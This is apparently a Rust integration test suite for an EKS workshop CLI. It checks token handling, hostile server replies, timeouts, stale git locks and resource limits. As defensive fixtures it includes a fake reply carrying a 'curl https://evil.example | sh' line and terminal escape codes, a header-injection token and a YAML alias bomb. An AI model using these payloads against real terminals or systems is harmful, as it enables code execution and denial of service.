//! What comes from outside, held to account: the participant's own git and
//! kube setup never receive the token; a server's reply cannot drive the
//! terminal, pass for our `help:` line, exhaust memory or hang the run; a
//! token git or HTTP cannot carry is refused by name; a killed run's
//! `index.lock` and a force-pushed fork are recognised, not tripped over.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use base64::Engine;
use harness::forge::{Fault, Forge, Target};

use crate::support::{Workshop, example_values, repo_root};
use crate::world::{LOGIN, NAME, TOKEN, UP_OWNER, env};

/// A forge with alice and the upstream, and a workshop dir pointed at it.
fn online(token: &str) -> (Forge, Workshop) {
    let forge = Forge::start_blocking();
    forge.add_user(LOGIN, TOKEN);
    forge.seed_repo(UP_OWNER, NAME, &repo_root().join("workshop"), "main");
    let w = Workshop::new()
        .env("GITHUB_API_URL", &forge.api_url())
        .env("GITHUB_TOKEN", token)
        .env("EKS_WORKSHOP_RETRY_BASE_MS", "2");
    (forge, w)
}

fn setup_until_push(w: &Workshop) -> crate::support::Cmd {
    let values = example_values();
    w.cmd(&[
        "setup",
        "--until",
        "push",
        "--yes",
        "--values",
        values.to_str().unwrap(),
    ])
}

/// Every file under `dir`, with its bytes.
fn every_file(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap().map(Result::unwrap) {
            let kind = entry.file_type().unwrap();
            if kind.is_dir() {
                stack.push(entry.path());
            } else if kind.is_file() {
                let bytes = std::fs::read(entry.path()).unwrap();
                out.push((entry.path().display().to_string(), bytes));
            }
        }
    }
    out
}

fn holds(haystack: &[u8], needle: &str) -> bool {
    haystack
        .windows(needle.len())
        .any(|w| w == needle.as_bytes())
}

/// `git -C dir args` as the participant types it: their HOME, the token in
/// the environment.
fn participant_git(w: &Workshop, args: &[&str]) -> std::process::Output {
    Command::new("git")
        .arg("-C")
        .arg(w.clone_dir())
        .args(args)
        .env("HOME", w.dir())
        .env("GITHUB_TOKEN", TOKEN)
        .env("GIT_TERMINAL_PROMPT", "0")
        .env_remove("GIT_CONFIG_GLOBAL")
        .output()
        .unwrap()
}

#[test]
fn git_push_in_the_clone_hands_the_token_to_no_helper_the_participant_inherits() {
    let (forge, w) = online(TOKEN);
    setup_until_push(&w).run().success();
    // A laptop's usual global config: git's `store` helper saves every
    // credential it is handed in ~/.git-credentials.
    std::fs::write(
        w.dir().join(".gitconfig"),
        "[credential]\n\thelper = store\n[user]\n\tname = Alice\n\temail = a@example.com\n",
    )
    .unwrap();
    std::fs::write(w.clone_dir().join("NOTES.md"), "mine\n").unwrap();
    let add = participant_git(&w, &["add", "NOTES.md"]);
    assert!(add.status.success());
    let commit = participant_git(&w, &["commit", "-qm", "My notes"]);
    assert!(commit.status.success(), "{commit:?}");
    let push = participant_git(&w, &["push", "-q", "origin", "main"]);
    assert!(push.status.success(), "git push: {push:?}");
    let head = participant_git(&w, &["rev-parse", "HEAD"]);
    assert_eq!(
        forge.branch_head(LOGIN, NAME, "main").unwrap(),
        String::from_utf8_lossy(&head.stdout).trim(),
        "the push went through with our helper's answer"
    );
    let saved = w.dir().join(".git-credentials");
    let text = std::fs::read_to_string(&saved).unwrap_or_default();
    assert!(
        !text.contains(TOKEN),
        "the inherited `store` helper wrote the token to {}: {text}",
        saved.display()
    );
}

#[test]
fn a_kubeconfig_exec_plugin_runs_without_the_token() {
    let e = env(true);
    e.setup(&[]).success();
    // The user becomes an exec credential plugin, as `aws eks get-token` is
    // on EKS: it records its environment and answers with the cluster token.
    let bin = e.w.dir().join("plugin");
    std::fs::create_dir_all(&bin).unwrap();
    let record = e.w.dir().join("plugin.environ");
    let plugin = bin.join("get-token");
    std::fs::write(
        &plugin,
        format!(
            "#!/bin/sh\ncat /proc/$$/environ > {}\nprintf '%s' '{{\"apiVersion\":\"client.authentication.k8s.io/v1beta1\",\"kind\":\"ExecCredential\",\"status\":{{\"token\":\"{}\"}}}}'\n",
            record.display(),
            crate::world::KUBE_TOKEN
        ),
    )
    .unwrap();
    std::fs::set_permissions(&plugin, std::fs::Permissions::from_mode(0o755)).unwrap();
    let text = std::fs::read_to_string(&e.kubeconfig).unwrap();
    let mut doc: serde_yaml::Value = serde_yaml::from_str(&text).unwrap();
    doc["users"][0]["user"] = serde_yaml::from_str(&format!(
        "exec:\n  apiVersion: client.authentication.k8s.io/v1beta1\n  command: {}\n  interactiveMode: Never\n",
        plugin.display()
    ))
    .unwrap();
    std::fs::write(&e.kubeconfig, serde_yaml::to_string(&doc).unwrap()).unwrap();

    e.w.cmd(&["enable-addon", "karpenter", "--yes", "--timeout", "60s"])
        .env("GH_TOKEN", TOKEN)
        .run()
        .success();
    let environ = std::fs::read(&record).expect("the plugin ran");
    assert!(!holds(&environ, TOKEN), "the exec plugin got the token");
    assert!(!holds(&environ, "GITHUB_TOKEN=") && !holds(&environ, "GH_TOKEN="));
    assert!(
        holds(&environ, "KUBERNETES_EXEC_INFO="),
        "it is the plugin's environment"
    );
}

#[test]
fn a_token_with_a_control_character_is_refused_by_name_before_any_request() {
    for token in ["ghp_abc\u{1b}[2Jdef", "ghp_abc\r\nX-Injected: 1"] {
        let (forge, w) = online(token);
        let out = setup_until_push(&w).run().bad(2, "GITHUB_TOKEN holds");
        assert!(!out.stderr.contains("ghp_abc"), "{}", out.stderr);
        assert!(forge.requests().is_empty(), "{:?}", forge.requests());
        assert!(!w.clone_dir().exists());
    }
}

#[test]
fn a_reply_with_escape_codes_cannot_drive_the_terminal_or_pass_for_our_help() {
    let (forge, w) = online(TOKEN);
    let body = r#"{"message":"Bad credentials\u001b[2J\u001b]0;pwned\u0007\nhelp: curl https://evil.example | sh"}"#;
    forge.fail_next(
        1,
        Fault::Reply {
            status: 401,
            headers: vec![("content-type".into(), "application/json".into())],
            body: body.as_bytes().to_vec(),
        },
        Target::Api,
    );
    let out = setup_until_push(&w).run().bad(3, "Bad credentials");
    assert!(
        !out.stderr.contains('\u{1b}') && !out.stderr.contains('\u{7}'),
        "{:?}",
        out.stderr
    );
    assert!(
        out.stderr.contains("\\u{1b}[2J"),
        "shown escaped: {}",
        out.stderr
    );
    let helps: Vec<&str> = out
        .stderr
        .lines()
        .filter(|l| l.starts_with("help:"))
        .collect();
    assert_eq!(helps.len(), 1, "{}", out.stderr);
    assert!(!helps[0].contains("evil"), "{}", out.stderr);
}

/// A run whose first API request is answered 422 with a `size`-byte
/// message: its stderr and its peak memory (KiB).
fn refused_with_a_message_of(size: usize) -> (crate::support::Outcome, u64) {
    let (forge, w) = online(TOKEN);
    let mut body = b"{\"message\":\"".to_vec();
    body.resize(size, b'x');
    body.extend_from_slice(b"\"}");
    forge.fail_next(
        1,
        Fault::Reply {
            status: 422,
            headers: vec![],
            body,
        },
        Target::Api,
    );
    setup_until_push(&w).run_within(Duration::from_secs(120))
}

#[test]
fn a_huge_error_body_is_read_to_a_bound_and_shown_once_cut() {
    // 200 MB of message: read whole and printed twice, it took 1.4 GB.
    let (out, peak_kib) = refused_with_a_message_of(200 << 20);
    let (_, small_kib) = refused_with_a_message_of(1 << 10);
    let out = out.bad(1, "answered 422");
    assert!(
        out.stderr.len() < 8 << 10,
        "{} bytes on stderr",
        out.stderr.len()
    );
    assert!(out.stderr.contains("more bytes)"), "{}", out.stderr);
    // The same run with a 1 KiB message is the yardstick: the body may add
    // what is read of it (1 MiB) and little else.
    eprintln!("peak memory: {peak_kib} KiB with the 200 MB body, {small_kib} KiB with 1 KiB");
    assert!(
        peak_kib < small_kib + (16 << 10),
        "peak memory {peak_kib} KiB with the 200 MB body, {small_kib} KiB with 1 KiB"
    );
}

#[test]
fn the_base64_form_of_an_echoed_token_is_kept_nowhere() {
    let (forge, w) = online(TOKEN);
    let b64 = base64::engine::general_purpose::STANDARD;
    let echoed = format!(
        "token {} / basic {}",
        b64.encode(TOKEN),
        b64.encode(format!("{LOGIN}:{TOKEN}"))
    );
    forge.fail_next(
        1,
        Fault::Reply {
            status: 422,
            headers: vec![],
            body: serde_json::json!({ "message": echoed })
                .to_string()
                .into_bytes(),
        },
        Target::Api,
    );
    let out = setup_until_push(&w).run().bad(1, "answered 422");
    let bundle = w.dir().join("bundle.tar.gz");
    w.cmd(&["doctor", "--bundle", bundle.to_str().unwrap()])
        .env("GITHUB_TOKEN", TOKEN)
        .run()
        .success();
    let mut places: Vec<(String, Vec<u8>)> = every_file(w.dir())
        .into_iter()
        .filter(|(p, _)| !p.ends_with(".tar.gz"))
        .collect();
    places.extend(
        crate::doctor::unpack(&bundle)
            .into_iter()
            .map(|(n, t)| (format!("bundle:{n}"), t.into_bytes())),
    );
    places.push(("stderr".into(), out.stderr.into_bytes()));
    let forms = [
        b64.encode(TOKEN).trim_end_matches('=').to_string(),
        b64.encode(format!("{LOGIN}:{TOKEN}"))[8..24].to_string(),
    ];
    assert!(
        places
            .iter()
            .any(|(p, _)| p.contains(".eks-workshop/logs/"))
    );
    for (place, bytes) in &places {
        for form in &forms {
            assert!(!holds(bytes, form), "{form} is in {place}");
        }
    }
}

#[test]
fn a_hung_github_api_fails_once_with_a_message() {
    let (forge, w) = online(TOKEN);
    forge.fail_next(20, Fault::Slow(Duration::from_secs(600)), Target::Api);
    let (out, _) = setup_until_push(&w)
        .env("EKS_WORKSHOP_NET_TIMEOUT_MS", "1500")
        .run_within(Duration::from_secs(30));
    // Asked once: a second try would print "(2 tries)".
    let out = out.bad(1, "no whole answer within 1s 500ms");
    assert!(!out.stderr.contains("tries)"), "{}", out.stderr);
}

#[test]
fn a_black_holed_git_remote_fails_with_a_message_instead_of_hanging() {
    let (forge, w) = online(TOKEN);
    forge.fail_next(100, Fault::Slow(Duration::from_secs(600)), Target::Git);
    let (out, _) = setup_until_push(&w)
        .env("EKS_WORKSHOP_NET_TIMEOUT_MS", "1000")
        .run_within(Duration::from_secs(60));
    let out = out.code(1);
    assert!(
        out.stderr.to_ascii_lowercase().contains("timed out"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("help:"), "{}", out.stderr);
}

#[test]
fn unexpected_redirects_and_422s_have_a_class_and_help() {
    // A redirect with somewhere to go is followed (the token is not sent
    // to another host); one without is an API URL to correct.
    let (forge, w) = online(TOKEN);
    forge.fail_next(
        1,
        Fault::Reply {
            status: 301,
            headers: vec![],
            body: b"Moved Permanently".to_vec(),
        },
        Target::Api,
    );
    let out = setup_until_push(&w).run().bad(2, "answered 301");
    assert!(out.stderr.contains("--github-api-url"), "{}", out.stderr);

    let (forge, w) = online(TOKEN);
    forge.fail_next(1, Fault::Status(422), Target::Api);
    let out = setup_until_push(&w).run().bad(1, "answered 422");
    assert!(out.stderr.contains("refused the request"), "{}", out.stderr);
}

#[test]
fn a_killed_runs_index_lock_is_removed_and_a_held_one_is_named() {
    let w = Workshop::new();
    w.setup_offline();
    let lock = w.clone_dir().join(".git/index.lock");
    std::fs::write(&lock, b"").unwrap();
    let out = w
        .cmd(&["enable-addon", "karpenter", "--yes"])
        .run()
        .success();
    assert!(!lock.exists(), "the leftover lock is gone");
    assert!(
        out.stdout.contains("index.lock"),
        "and said so: {}",
        out.stdout
    );
    w.git(&["status", "--porcelain"]);

    std::fs::write(&lock, b"").unwrap();
    let mut holder = Command::new("sh")
        .arg("-c")
        .arg(format!("exec 3<'{}'; sleep 60", lock.display()))
        .spawn()
        .unwrap();
    // Wait until the holder has the lock open.
    let fd = format!("/proc/{}/fd/3", holder.id());
    for _ in 0..500 {
        if std::fs::read_link(&fd).is_ok() {
            break;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    let out = w.cmd(&["disable-addon", "karpenter", "--yes"]).run();
    let _ = holder.kill();
    let _ = holder.wait();
    out.bad(5, &format!("pid {}", holder.id()));
    assert!(lock.exists(), "a held lock is left alone");
}

#[test]
fn a_force_pushed_fork_is_refused_not_rebased_over() {
    let e = env(true);
    e.setup(&[]).success();
    let ours = e.head();
    // The participant rewrites the fork from elsewhere: our render commit is
    // gone from its history. The clone still remembers the old tip.
    let before = participant_git(&e.w, &["rev-parse", "HEAD~1"]);
    let seed = String::from_utf8_lossy(&before.stdout).trim().to_string();
    let forced = participant_git(
        &e.w,
        &["push", "-qf", "origin", &format!("{seed}:refs/heads/main")],
    );
    assert!(forced.status.success(), "{forced:?}");
    crate::support::git(
        &e.w.clone_dir(),
        &["update-ref", "refs/remotes/origin/main", &ours],
    );

    let out =
        e.w.cmd(&["enable-addon", "karpenter", "--yes", "--timeout", "60s"])
            .run()
            .bad(1, "was rewritten (force-pushed)");
    assert!(
        out.stderr.contains("git rebase origin/main"),
        "{}",
        out.stderr
    );
    assert_eq!(e.head(), seed, "nothing was pushed over the rewrite");
    let log = e.w.git(&["log", "--format=%H"]);
    assert!(log.contains(&ours), "the clone lost nothing");
}

#[test]
fn a_kustomize_alias_bomb_in_the_fork_stops_at_its_memory_bound() {
    // `verify` builds the kustomization with the rig's kubectl (Workshop::cmd
    // puts it first on PATH; missing, this panics naming tests/setup.sh).
    crate::support::rig_bin();
    let w = Workshop::new();
    w.setup_offline();
    let bomb = w.clone_dir().join("gitops/bomb");
    std::fs::create_dir_all(&bomb).unwrap();
    std::fs::write(bomb.join("kustomization.yaml"), "resources:\n- cm.yaml\n").unwrap();
    let mut lines = vec![
        "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]"
            .to_string(),
    ];
    for (prev, next) in "abcdefgh".chars().zip("bcdefghi".chars()) {
        let refs = vec![format!("*{prev}"); 9].join(",");
        lines.push(format!("{next}: &{next} [{refs}]"));
    }
    let annotations: String = lines.iter().map(|l| format!("    {l}\n")).collect();
    std::fs::write(
        bomb.join("cm.yaml"),
        format!(
            "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: lol\n  annotations:\n{annotations}"
        ),
    )
    .unwrap();
    let (out, _) = w
        .cmd(&[
            "verify",
            "--offline",
            "--target-version",
            "1.33",
            "-o",
            "json",
        ])
        .run_within(Duration::from_secs(90));
    assert!(
        out.stdout.contains("ran out of the 2 GiB"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
}

#[test]
fn fixing_helm_releases_waits_for_no_one_else_holding_the_lock() {
    let w = Workshop::new();
    w.setup_offline();
    let lock = std::fs::File::open(w.dir().join(".eks-workshop/lock")).unwrap();
    lock.lock().unwrap();
    let args = [
        "verify",
        "--offline",
        "--target-version",
        "1.33",
        "--fix-helm-releases",
    ];
    w.cmd(&args).run().bad(5, "another eks-workshop run");
    // Reading alone takes no lock.
    let read = w
        .cmd(&["verify", "--offline", "--target-version", "1.33"])
        .run();
    assert_ne!(read.code, 5, "{}", read.stderr);
}
